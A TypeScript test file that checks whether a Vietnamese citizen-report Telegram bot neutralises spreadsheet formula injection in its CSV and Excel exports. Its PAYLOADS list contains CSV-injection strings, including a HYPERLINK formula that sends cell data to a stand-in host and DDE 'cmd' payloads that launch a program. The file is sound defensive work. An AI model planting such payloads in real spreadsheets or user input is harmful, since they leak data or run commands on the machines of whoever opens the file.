import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ZOutMessage } from '../../src/outbox/out-message.js';
import { writeCsv } from '../../src/reports/write-csv.js';
import { FakeTelegramApi } from '../helpers/fake-telegram-api.js';
import { startTestApp, type TestApp } from '../helpers/start-test-app.js';
import { TelegramChat } from '../helpers/telegram-chat.js';
import { createEmptyDatabase, providers, type TestDatabase } from '../helpers/test-database.js';
import { fileWasteReport } from '../helpers/waste-report-chat.js';
import { XLSX_HEADER_ROW } from '../../src/reports/write-xlsx.js';

const OFFICIAL = 7600;
/** What a citizen may type as a description, each starting the way a spreadsheet formula does. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A2;"Bấm xem ảnh lãng phí")',
  '+2+5+cmd|\' /C calc\'!A0 xe công dùng sai mục đích',
  '-2+3+cmd|\' /C calc\'!A0 đèn đường bật cả ngày',
  '@SUM(1+9)*cmd|\' /C calc\'!A0 điều hòa bật cả đêm',
];

describe.each(providers)('security: exports of what citizens typed (%s)', (provider) => {
  let api: FakeTelegramApi;
  let database: TestDatabase;
  let app: TestApp;
  let official: TelegramChat;

  beforeAll(async () => {
    api = await new FakeTelegramApi().start();
    database = await createEmptyDatabase(provider);
    app = await startTestApp({ databaseUrl: database.url, telegram: api, env: { ADMINS: `telegram:${OFFICIAL}` } });
    official = new TelegramChat(api, OFFICIAL);
    for (const [i, description] of PAYLOADS.entries()) {
      await fileWasteReport(api, new TelegramChat(api, 7700 + i), { category: 'Khác', description });
    }
    expect(await app.database.db.wasteReport.count()).toBe(PAYLOADS.length);
  });
  afterAll(async () => {
    await app?.stop();
    await api?.stop();
    await database?.drop();
  });

  async function exportFiles(command: string, count: number) {
    const before = api.documents.filter((d) => d.chatId === String(OFFICIAL)).length;
    await official.say(command);
    for (const deadline = Date.now() + 20_000; api.documents.filter((d) => d.chatId === String(OFFICIAL)).length < before + count; ) {
      if (Date.now() > deadline) throw new Error(`expected ${count} more documents`);
      await new Promise((r) => setTimeout(r, 25));
    }
    await app.jobs.idle();
    const rows = await app.database.db.outboxMessage.findMany({ where: { chatId: String(OFFICIAL) }, orderBy: { id: 'desc' }, take: 10 });
    const files = new Map<string, Buffer>();
    for (const row of rows) {
      const doc = ZOutMessage.parse(JSON.parse(row.payloadJson)).document;
      if (!doc || files.has(doc.fileName)) continue;
      const file = await app.database.db.storedFile.findUniqueOrThrow({ where: { id: doc.storedFileId } });
      files.set(doc.fileName, Buffer.from(file.data));
    }
    return files;
  }

  it('should write no CSV cell that a spreadsheet would run as a formula', async () => {
    const year = new Date().getFullYear();
    const files = await exportFiles(`/xuat ${year} csv`, 3);
    const csv = files.get(`phan-anh-${year}.csv`)!.toString('utf8');
    for (const payload of PAYLOADS) {
      const quoted = `"'${payload.replace(/"/g, '""')}"`;
      expect(csv.includes(`,'${payload},`) || csv.includes(`,${quoted},`), payload).toBe(true);
      expect(csv).not.toContain(`,${payload}`);
      expect(csv).not.toContain(`,"${payload.replace(/"/g, '""')}`);
    }
  });

  it('should neutralise a cell starting with a tab or a carriage return, and leave numbers alone', async () => {
    const sheet = {
      name: 't',
      columns: [{ header: 'Nội dung', key: 'text', width: 10 }, { header: 'Số', key: 'n', width: 5 }],
      async *rows() {
        yield { text: '\t=1+1', n: -5 };
        yield { text: '\r=1+1', n: 3 };
        yield { text: 'Bình thường = không sao', n: 0 };
      },
    };
    const csv = (await writeCsv(sheet)).toString('utf8');
    expect(csv).toContain("'\t=1+1,-5");
    expect(csv).toContain(`"'\r=1+1",3`);
    expect(csv).toContain('Bình thường = không sao,0');
  });

  it('should keep the formula guard in the Vietnamese-Excel CSV, with decimal commas and quoted semicolons', async () => {
    const sheet = {
      name: 't',
      columns: [{ header: 'Nội dung', key: 'text', width: 10 }, { header: 'Số', key: 'n', width: 5 }],
      async *rows() {
        yield { text: '=HYPERLINK("http://x";"y")', n: 1.5 };
        yield { text: '@SUM(A1)', n: -5 };
        yield { text: 'a; b', n: 1234567.25 };
      },
    };
    const csv = (await writeCsv(sheet, 'vn')).toString('utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://x"";""y"")";1,5`);
    expect(csv).toContain("'@SUM(A1);-5");
    expect(csv).toContain('"a; b";1234567,25');
    expect(csv).not.toMatch(/(^|;)[=@]/m);
  });

  it('should store what citizens typed as text in the workbook, never as a formula', async () => {
    const year = new Date().getFullYear();
    const files = await exportFiles(`/xuat ${year}`, 1);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(files.get(`thi-dua-${year}.xlsx`)! as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Phản ánh')!;
    // Under the title block and header; column 1 is the row number (STT).
    const cells = sheet.getRows(XLSX_HEADER_ROW + 1, sheet.rowCount - XLSX_HEADER_ROW)!.map((r) => r.getCell(11));
    expect(cells.map((c) => c.value).sort()).toEqual([...PAYLOADS].sort());
    for (const cell of cells) expect(cell.type).toBe(ExcelJS.ValueType.String);
  });
});
